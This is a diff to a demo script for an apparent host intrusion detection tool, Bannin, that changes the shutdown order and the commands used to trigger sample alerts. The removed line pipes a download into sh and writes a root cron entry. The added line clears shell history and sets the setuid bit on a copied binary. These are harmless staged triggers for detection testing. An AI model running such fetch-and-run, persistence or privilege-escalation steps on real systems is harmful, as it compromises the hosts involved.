@@ -34,10 +34,9 @@ mpid=
 apid=
 stop() {
   trap - INT TERM EXIT
-  [ -n "$apid" ] && kill -TERM "$apid" 2>/dev/null
-  [ -n "$mpid" ] && kill -TERM "$mpid" 2>/dev/null
-  [ -n "$apid" ] && wait "$apid" 2>/dev/null
-  [ -n "$mpid" ] && wait "$mpid" 2>/dev/null
+  # the agent first, so its last batches reach the manager before that stops
+  [ -n "$apid" ] && kill -TERM "$apid" 2>/dev/null && wait "$apid" 2>/dev/null
+  [ -n "$mpid" ] && kill -TERM "$mpid" 2>/dev/null && wait "$mpid" 2>/dev/null
   echo
   echo "run-demo: stopped (data kept in $run; remove it to start afresh)"
 }
@@ -85,7 +84,7 @@ Try it (in another shell):
   export BANNIN_SERVER=http://$api
   export BANNIN_TOKEN=\$(BANNIN_PASSWORD='<password printed above>' $bannin api login admin)
   $bannin api agents list
-  bash -c 'curl -s http://127.0.0.1:1/x.sh | sh; echo "* * * * * root /tmp/x" > /tmp/bn-demo-cron'
+  bash -c 'history -c'; cp /bin/true /tmp/bn-demo && chmod u+s /tmp/bn-demo   # two alerts
   $bannin api incidents list
 The tenant is semi-managed: Bannin proposes, an operator decides; nothing here isolates or
 firewalls this machine. Ctrl-C stops the manager and the agent.
